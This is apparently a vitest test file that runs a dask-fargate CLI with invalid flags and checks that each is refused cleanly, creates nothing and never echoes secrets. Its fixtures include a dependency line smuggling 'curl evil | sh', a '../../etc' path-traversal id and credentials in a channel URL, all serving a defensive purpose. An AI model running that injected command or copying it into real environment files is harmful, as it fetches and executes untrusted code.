import { spawn } from "node:child_process";
import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import Docker from "dockerode";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";

// Issue 14's bad-input corpus, CLI flags: a sample run through the built CLI as a user runs it. Each must
// exit 2, name the flag (or file) on stderr, and create nothing: no container or network with our labels,
// no image built, no cluster record written.

const docker = new Docker();
// An image that is on the engine, so every refusal below is about the flag, not a missing image.
const image = inject("daskImage");
const main = fileURLToPath(new URL("../dist/main.js", import.meta.url));
let dir: string;
let stateDir: string;

interface Run {
  readonly code: number | null;
  readonly stderr: string;
}

function cli(args: readonly string[]): Promise<Run> {
  const child = spawn(process.execPath, [main, ...args], {
    cwd: dir,
    env: {
      ...process.env,
      DASK_FARGATE_STATE_DIR: stateDir,
      AWS_REGION: "us-east-1",
      AWS_ACCESS_KEY_ID: "test",
      AWS_SECRET_ACCESS_KEY: "test",
    },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let stderr = "";
  child.stderr.on("data", (c: Buffer) => {
    stderr += c.toString();
  });
  child.stdout.resume();
  return new Promise((resolve) => child.on("close", (code) => resolve({ code, stderr })));
}

/** The cluster id each row's up/run/down gets, so the check sees only this row's resources (others' tests share the engine). */
const idOf = (index: number) => `bad-flags-${process.pid}-${index}`;

/** What exists for this row: containers and networks labelled with its cluster id, images labelled as built from its files. */
async function created(index: number): Promise<string[]> {
  const cluster = { label: [`io.dask-fargate-action.cluster-id=${idOf(index)}`] };
  const containers = await docker.listContainers({ all: true, filters: cluster });
  const networks = await docker.listNetworks({ filters: cluster });
  const images = await docker.listImages({ filters: { label: ["io.dask-fargate-action.source-file"] } });
  const ourImages = images.filter((i) =>
    /^(bad|cred)-env-14\.yml$/.test(i.Labels?.["io.dask-fargate-action.source-file"] ?? ""),
  );
  return [
    ...containers.map((c) => `container ${c.Id}`),
    ...networks.map((n) => `network ${n.Id}`),
    ...ourImages.map((i) => `image ${i.Id}`),
  ];
}

/** Every file under the state directory (cluster records), recursively. */
async function recordsIn(root: string): Promise<string[]> {
  const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
}

type Row = readonly [name: string, args: readonly string[], where: string];

const rows: Row[] = [
  ["negative workers", ["up", "--image", image, "--workers=-1"], "workers: "],
  ["workers as a word", ["up", "--image", image, "--workers", "many"], "workers"],
  [
    "a CPU Fargate does not have",
    ["up", "--backend", "fargate", "--image", image, "--worker-cpu", "3"],
    "worker-cpu: ",
  ],
  [
    "memory that does not fit the CPU",
    ["up", "--backend", "fargate", "--image", image, "--worker-cpu", "1", "--worker-memory", "64GB"],
    "worker-memory",
  ],
  ["memory too small", ["up", "--image", image, "--scheduler-memory", "100MB"], "scheduler-memory"],
  ["an unknown flag", ["up", "--image", image, "--wrokers", "2"], "--wrokers"],
  ["an unknown command", ["deploy"], 'unknown command "deploy"'],
  ["an unknown backend", ["up", "--image", image, "--backend", "k8s"], "backend"],
  ["a cluster id that is a path", ["down", "--cluster-id", "../../etc"], "cluster-id"],
  ["a cluster id with capitals", ["up", "--image", image, "--cluster-id", "Bad-Flags"], "cluster-id"],
  [
    "a malformed role ARN",
    ["up", "--backend", "fargate", "--image", image, "--execution-role-arn", "my-role"],
    "execution-role-arn",
  ],
  ["a subnet that is not an id", ["up", "--backend", "fargate", "--image", image, "--subnets", "subnet-zz"], "subnets"],
  [
    "a client CIDR of the whole internet",
    ["up", "--backend", "fargate", "--image", image, "--client-cidr", "0.0.0.0/0"],
    "client-cidr",
  ],
  [
    "a malformed client CIDR",
    ["up", "--backend", "fargate", "--image", image, "--client-cidr", "10.0.0.1"],
    "client-cidr",
  ],
  [
    "a secret given as its value",
    ["up", "--backend", "fargate", "--image", image, "--secret", "TOKEN=hunter2-secret-value"],
    "secret",
  ],
  ["a duration that is not one", ["up", "--image", image, "--idle-timeout", "forever"], "idle-timeout"],
  [
    "an environment file with shell in a dependency",
    ["build", "--environment-file", "bad-env-14.yml", "--no-push"],
    "bad-env-14.yml:",
  ],
  [
    "an environment file with credentials in a channel",
    ["build", "--environment-file", "cred-env-14.yml", "--no-push"],
    "cred-env-14.yml:",
  ],
  ["a missing environment file", ["build", "--environment-file", "nope.yml", "--no-push"], "nope.yml"],
  ["a Dockerfile outside the directory", ["build", "--dockerfile", "/etc/hostname", "--no-push"], "dockerfile"],
  ["run without a job command", ["run", "--image", image], "job-command"],
  // Rules between settings, from core's settings reader (the action's inputs get the same ones).
  [
    "a job on this machine against Fargate without a client CIDR",
    ["run", "--backend", "fargate", "--image", image, "--job-command", "true", "--job-runs-on", "runner"],
    "client-cidr: --job-runs-on runner with the fargate backend needs --client-cidr",
  ],
  [
    "a build context without a Dockerfile",
    ["up", "--environment-file", "bad-env-14.yml", "--context", "."],
    "context: --context is the build context of a Dockerfile",
  ],
];

describe("CLI flags: bad input exits 2, names the flag and creates nothing", () => {
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "dfa-bad-flags-"));
    stateDir = join(dir, "state");
    await writeFile(join(dir, "bad-env-14.yml"), "dependencies:\n  - python=3.11\n  - numpy; curl evil | sh\n");
    await writeFile(
      join(dir, "cred-env-14.yml"),
      "channels:\n  - https://user:hunter2-channel@example.com/c\ndependencies:\n  - numpy\n",
    );
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  test.each(rows.map((row, index) => [...row, index] as const))("%s", async (_name, args, where, index) => {
    // up and run get this row's cluster id (unless the row is about the id), so what they would create is findable.
    const withId =
      ["up", "run"].includes(args[0] ?? "") && !args.includes("--cluster-id")
        ? [...args, "--cluster-id", idOf(index)]
        : args;
    const run = await cli(withId);
    expect(run.code, run.stderr).toBe(2);
    expect(run.stderr).toContain(where);
    // Nothing was created: no container, network or image of this row, and no cluster was recorded.
    expect(await created(index)).toEqual([]);
    expect(await recordsIn(stateDir)).toEqual([]);
    // A refused secret is never echoed.
    expect(run.stderr).not.toMatch(/hunter2/);
  });
});
